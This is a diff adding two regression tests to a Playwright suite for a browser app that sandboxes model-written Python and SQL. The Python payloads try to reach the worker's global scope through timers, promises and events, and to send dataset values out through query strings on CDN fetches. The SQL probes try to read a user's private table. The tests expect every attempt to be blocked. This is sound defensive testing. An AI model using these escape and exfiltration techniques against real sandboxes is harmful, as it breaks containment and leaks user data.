@@ -6,6 +6,7 @@
  * no dataset may change without the user's confirmation, the key must be in no storage, and the
  * app must keep working afterwards.
  */
+import { readFileSync } from 'node:fs';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import type { Page, Request } from '@playwright/test';
@@ -16,6 +17,8 @@ import { ask, chat, configureEndpoint, expectIdle, openSteps, useMockLlm } from 
 import { ATTEMPT_PY, pythonConsole } from './support/pythonConsole';
 
 const KEY = 'sk-escape-suite-4Kd81Qz';
+/** Where the app fetches Pyodide packages from (src/python/pythonView.svelte.ts). */
+const PACKAGE_BASE_URL = `https://cdn.jsdelivr.net/pyodide/v${(JSON.parse(readFileSync('node_modules/pyodide/package.json', 'utf8')) as { version: string }).version}/full/`;
 let server: Server;
 let url = '';
 let hits: string[] = [];
@@ -150,6 +153,131 @@ result = out
     await penguinsUnchanged(app.page);
     await py.expectUsable();
     await expectNoHits(app.page);
+  });
+
+  // Issue #31: a browser calls a timer's handler with the worker's global as `this`, so
+  // `js.setTimeout(create_proxy(cb, capture_this=True), 0)` handed Python the global scope and, with
+  // it, a fetch that let any GET under the package CDN through, query string and all. Every route
+  // to a receiver or argument that could be the global is tried; none may yield it.
+  test('from the Python console: no JS proxy, callback or event yields the worker global', async () => {
+    const app = shared();
+    const page = app.page;
+    const cdnLeaks: string[] = [];
+    // A package-file GET with data in its query must never leave (also if a route had reached fetch).
+    await page.context().route(/\.(whl|zip|tar)[?#]/, async (route) => {
+      cdnLeaks.push(route.request().url());
+      await route.abort();
+    });
+    const py = await pythonConsole(page);
+    await py.exec(`
+import asyncio, js
+from pyodide.ffi import create_proxy
+URL = ${JSON.stringify(url)}
+CDN = ${JSON.stringify(PACKAGE_BASE_URL)}
+found = {}
+def global_like(o):
+    try:
+        return o is not None and any(hasattr(o, n) for n in ("fetch", "postMessage", "importScripts", "location", "onmessage"))
+    except BaseException:
+        return False
+def grab(name):
+    found.setdefault(name, "blocked")
+    def cb(this, *args):
+        for o in (this, *args, *[getattr(a, "target", None) for a in args], *[getattr(a, "currentTarget", None) for a in args]):
+            if global_like(o):
+                found[name] = "reached"
+                try:
+                    o.fetch(CDN + "x.whl?d=adelie,gentoo")
+                    o.fetch(URL + "/" + name.replace(" ", "-"))
+                    o.addEventListener("message", create_proxy(lambda e: None))
+                except BaseException:
+                    pass
+    return create_proxy(cb, capture_this=True)
+js.setTimeout(grab("setTimeout this"), 0)
+iv = js.setInterval(grab("setInterval this"), 1)
+js.queueMicrotask(grab("queueMicrotask this"))
+js.setTimeout(js.Array.prototype.push, 0, 1)
+js.setTimeout(js.Array.prototype.forEach, 0, grab("push then forEach"))
+js.setTimeout(js.Array.prototype.map, 0, grab("map on the receiver"))
+sig = js.AbortSignal.timeout(1)
+sig.addEventListener("abort", grab("abort event target"))
+js.Promise.resolve(1).then(grab("promise reaction this"))
+js.performance.addEventListener("x", grab("performance event"))
+js.performance.dispatchEvent(js.Event.new("x")) if hasattr(js, "Event") else None
+try:
+    js.Error.prepareStackTrace = grab("prepareStackTrace call sites")
+    js.Error.new("x").stack
+except BaseException:
+    pass
+await asyncio.sleep(0.3)
+js.clearInterval(iv)
+for name in ("addEventListener", "close", "navigator", "self", "globalThis", "fetch", "postMessage", "onmessage"):
+    found["js." + name] = "reached" if getattr(js, name, None) is not None else "blocked"
+try:
+    from pyodide.http import pyfetch
+    await pyfetch(CDN + "x.whl?d=rows")
+    found["pyfetch"] = "reached"
+except BaseException:
+    found["pyfetch"] = "blocked"
+# Legit use keeps working: a timer callback runs, asyncio sleeps.
+done = []
+js.setTimeout(create_proxy(lambda: done.append(1)), 0)
+await asyncio.sleep(0.05)
+found["a plain timer still runs"] = "blocked" if done == [1] else "did not run"
+result = found
+`);
+    const report = JSON.parse(await py.result().innerText()) as Record<string, string>;
+    expect(Object.keys(report).length).toBeGreaterThanOrEqual(17);
+    for (const [name, outcome] of Object.entries(report)) expect(outcome, name).toBe('blocked');
+    await py.expectUsable();
+    await expectNoHits(page);
+    expect(cdnLeaks).toEqual([]);
+    await page.context().unroute(/\.(whl|zip|tar)[?#]/);
+  });
+
+  // Issue #31: DuckDB's plan names a scanned table without its schema, so with a dataset
+  // `penguins` and the user's own `priv.penguins`, model SQL read the user's table. Python's sql()
+  // runs as model SQL; the user's table is made in the SQL console, as a user would.
+  test('model SQL reads the dataset, never a same-named table of the user’s; lateral unnest works', async () => {
+    const app = shared();
+    const page = app.page;
+    const confirm = page.getByRole('dialog', { name: 'Confirm destructive query' }).or(page.getByRole('alertdialog', { name: 'Confirm destructive query' }));
+    /** The console asks before a change: the user confirms their own table. */
+    const runConfirmed = async (sql: string) => {
+      await app.submitSql(sql);
+      await expect(async () => {
+        if (await confirm.isVisible()) await confirm.getByRole('button', { name: 'Run anyway' }).click();
+        expect(await app.runButton.isEnabled()).toBe(true);
+        expect(await confirm.isVisible()).toBe(false);
+      }).toPass({ timeout: 30_000 });
+    };
+    await runConfirmed("CREATE SCHEMA IF NOT EXISTS priv; CREATE OR REPLACE TABLE priv.penguins AS SELECT 'secret-row' AS \"Species\"");
+    expect(await app.scalar('SELECT count(*) FROM priv.penguins')).toBe('1');
+    try {
+      const py = await pythonConsole(page);
+      await py.exec(`
+out = {}
+for q in ["SELECT * FROM priv.penguins", "SELECT * FROM memory.priv.penguins", 'SELECT * FROM "priv"."penguins"',
+          "SELECT * FROM query_table('priv.penguins')", "WITH penguins AS (SELECT * FROM priv.penguins) SELECT * FROM penguins"]:
+    try:
+        r = sql(q)
+        out[q] = "ran: " + str(r)[:200]
+    except Exception as e:
+        out[q] = "blocked: " + str(e)[:400]
+r = sql('SELECT "Species", x FROM penguins, unnest([1, 2]) AS u(x) LIMIT 4')
+out["lateral unnest over the dataset"] = "blocked" if "secret-row" in str(r) else "ran"
+result = out
+`);
+      const report = JSON.parse(await py.result().innerText()) as Record<string, string>;
+      for (const [q, outcome] of Object.entries(report)) {
+        if (q.startsWith('lateral')) expect(outcome, q).toBe('ran');
+        else expect(outcome, q).toMatch(/^blocked: .*not the dataset penguins|^blocked: .*query_table\(\) resolves a name/s);
+      }
+      expect(JSON.stringify(report)).not.toContain('secret-row');
+    } finally {
+      await runConfirmed('DROP SCHEMA priv CASCADE');
+    }
+    await penguinsUnchanged(page);
   });
 
   for (const noRawRows of [false, true]) {
